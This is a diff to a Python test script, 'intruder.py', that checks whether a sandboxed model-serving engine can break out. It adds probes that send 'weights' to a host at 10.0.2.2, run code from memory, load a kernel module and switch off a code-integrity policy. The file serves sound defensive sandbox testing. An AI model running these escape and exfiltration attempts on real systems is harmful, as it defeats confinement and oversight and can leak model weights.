@@ -1,11 +1,12 @@
 """Code that has got into an engine and tries to get further. Runs in a test image, in the place of llama-server.
 
-    python3 -I intruder.py LABEL OWN OTHER
+    python3 -I intruder.py LABEL OWN OTHER [PROFILE]
 
-OWN and OTHER are payload ids: the engine that it runs as, and one that serves. For each attempt it prints
-``probe LABEL NAME denied REASON`` or ``probe LABEL NAME ALLOWED DETAIL``. Only an error of the operating system counts
-as denied; anything else ends the program, and its line is missing. Run by root outside of any sandbox (LABEL
-"control") it shows that what it looks for is there and that the attempts are good ones.
+OWN and OTHER are payload ids: the engine that it runs as, and one that serves. No interpreter starts in an engine's
+AppArmor profile, so the intruder goes into PROFILE once it runs, as code does that gets into a process that is there.
+For each attempt it prints ``probe LABEL NAME denied REASON`` or ``probe LABEL NAME ALLOWED DETAIL``. Only an error of
+the operating system counts as denied; anything else ends the program, and its line is missing. Run by root outside of
+any sandbox (LABEL "control") it shows that what it looks for is there and that the attempts are good ones.
 """
 
 from __future__ import annotations
@@ -17,10 +18,12 @@ import os
 import shutil
 import signal
 import socket
+import struct
 import subprocess
 import sys
 import time
 from collections.abc import Callable, Iterator
+from contextlib import suppress
 from pathlib import Path
 
 RUN = Path("/run/sealwright")
@@ -29,10 +32,15 @@ MARK = "planted-mark"
 """Name of the file that is left wherever one can be made; nothing of it may outlive the engine."""
 PROGRAM = "/usr/bin/python3"
 # System calls of x86-64 (Linux, arch/x86/entry/syscalls/syscall_64.tbl) and their arguments.
-PTRACE, MOUNT, UNSHARE, PERF, PROCESS_VM_READV, BPF, USERFAULTFD, IO_URING = 101, 165, 272, 298, 310, 321, 323, 425
+PTRACE, ACCT, MOUNT, UNSHARE, PERF, PROCESS_VM_READV, KCMP, INSERT_MODULE = 101, 163, 165, 272, 298, 310, 312, 313
+BPF, USERFAULTFD, IO_URING, PIDFD_OPEN, PIDFD_GETFD = 321, 323, 425, 434, 438
+COMPRESSED = 4
+"""finit_module's flag for a file as Debian ships it (linux/module.h)."""
 PTRACE_SEIZE, UFFD_USER_MODE_ONLY = 0x4206, 1
 NEW_MOUNTS, NEW_USERS, NEW_NETWORK = 0x2_0000, 0x1000_0000, 0x4000_0000
 AF_PACKET, ETH_P_ALL = 17, 0x0300
+HOST = "10.0.2.2"
+"""Behind QEMU's user network."""
 
 
 def nothing(found: list[str]) -> str:
@@ -66,8 +74,28 @@ def opened(family: int, kind: int, protocol: int = 0) -> str:
 def datagram() -> str:
     """A way to the host of QEMU's user network."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
-        client.connect(("10.0.2.2", 9))
+        client.connect((HOST, 9))
         return str(client.getsockname())
+
+
+def sent_datagram() -> str:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
+        return f"{client.sendto(b'weights', (HOST, 9))} bytes"
+
+
+def sent_echo() -> str:
+    """An ICMP echo request, with room for weights."""
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as client:
+        return f"{client.sendto(struct.pack('!BBHHH', 8, 0, 0xF7FF, 0, 0), (HOST, 0))} bytes"
+
+
+def called() -> str:
+    """Open a connection; that nobody listens there is an answer of the host, which so was reached."""
+    try:
+        with socket.create_connection((HOST, 9), timeout=60):
+            return "connected"
+    except ConnectionRefusedError:
+        return "refused by the host"
 
 
 def system_call(number: int, *arguments: object) -> str:
@@ -165,6 +193,54 @@ def own_code(own: str) -> str:
     raise refusals[0]
 
 
+def memory_program() -> str:
+    """Run a program that is in no file system."""
+    descriptor = os.memfd_create("planted")
+    os.write(descriptor, Path(PROGRAM).read_bytes())
+    subprocess.run([f"/proc/self/fd/{descriptor}", "--version"], pass_fds=[descriptor], check=True, capture_output=True)
+    return "a program from memory"
+
+
+def interpreter() -> str:
+    subprocess.run([PROGRAM, "-I", "-c", ""], check=True, capture_output=True)
+    return PROGRAM
+
+
+def own_library(own: str) -> str:
+    """Load code into a process that is there."""
+    (place,) = (RUN / "engine" / own,)
+    copy = shutil.copy("/usr/lib/x86_64-linux-gnu/libz.so.1", place / "planted-library")
+    return str(ctypes.CDLL(copy))
+
+
+def module_file() -> Path:
+    """A module that nobody has loaded, signed and of the verified root: what stops it stops every module."""
+    return Path("/usr/lib/modules") / os.uname().release / "kernel/drivers/net/dummy.ko.xz"
+
+
+def inserted(path: Path) -> str:
+    descriptor = os.open(path, os.O_RDONLY)
+    return system_call(INSERT_MODULE, ctypes.c_long(descriptor), b"", ctypes.c_long(COMPRESSED))
+
+
+def switched_off(path: Path) -> str:
+    """What PATH says already, written anew: whoever may do that may write anything."""
+    path.write_text(path.read_text())
+    return str(path)
+
+
+def same_file() -> str:
+    me = ctypes.c_long(os.getpid())
+    return system_call(KCMP, me, me, ctypes.c_long(0), ctypes.c_long(1), ctypes.c_long(2))
+
+
+def taken_descriptor() -> str:
+    """One's own: whoever may not take that may take none."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    process = libc.syscall(ctypes.c_long(PIDFD_OPEN), ctypes.c_long(os.getpid()), ctypes.c_long(0))
+    return system_call(PIDFD_GETFD, ctypes.c_long(process), ctypes.c_long(1), ctypes.c_long(0))
+
+
 def writable_code() -> str:
     mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_WRITE | mmap.PROT_EXEC).close()
     return "memory that can be written and run"
@@ -214,6 +290,9 @@ def attempts(own: str, other: str) -> dict[str, Callable[[], str]]:
         "shares": lambda: listing(STATE / "shares"),
         "tls-key": lambda: listing(RUN / "tls"),
         "network": datagram,
+        "send-datagram": sent_datagram,
+        "send-echo": sent_echo,
+        "call-host": called,
         "packet-socket": lambda: opened(AF_PACKET, socket.SOCK_RAW, ETH_P_ALL),
         "netlink-socket": lambda: opened(socket.AF_NETLINK, socket.SOCK_RAW),
         "physical-memory": lambda: content(Path("/dev/mem")),
@@ -233,6 +312,14 @@ def attempts(own: str, other: str) -> dict[str, Callable[[], str]]:
         "writable-places": lambda: writable(own),
         "own-code": lambda: own_code(own),
         "writable-code": writable_code,
+        "memory-program": memory_program,
+        "own-library": lambda: own_library(own),
+        "interpreter": interpreter,
+        "module": lambda: inserted(module_file()),
+        "code-policy": lambda: switched_off(Path("/sys/kernel/security/ipe/enforce")),
+        "same-file": same_file,
+        "foreign-descriptor": taken_descriptor,
+        "accounting": lambda: system_call(ACCT, None),
         "root": became_root,
         "capabilities": capabilities,
         "link": lambda: link(own),
@@ -253,7 +340,7 @@ def outcome(attempt: Callable[[], str]) -> str:
     try:
         return f"ALLOWED {attempt()}"
     except OSError as error:
-        return f"denied {errno.errorcode[error.errno or 0]}"
+        return f"denied {errno.errorcode.get(error.errno or 0, error)}"
 
 
 def try_out(line: str, attempt: Callable[[], str]) -> None:
@@ -265,12 +352,20 @@ def try_out(line: str, attempt: Callable[[], str]) -> None:
     os.waitpid(child, 0)
 
 
+def confine(profile: str) -> None:
+    """Go into an AppArmor profile; there is no way back."""
+    Path("/proc/self/attr/apparmor/current").write_text(f"changeprofile {profile}")
+
+
 def main() -> None:
-    label, own, other = sys.argv[1:]
+    label, own, other, *profiles = sys.argv[1:]
+    for profile in profiles:
+        confine(profile)
     for name, attempt in attempts(own, other).items():
         try_out(f"probe {label} {name}", attempt)
     for place in places(own):
-        (place / MARK).touch()
+        with suppress(OSError):
+            (place / MARK).touch()
     print(f"probe {label} end", flush=True)
 
 
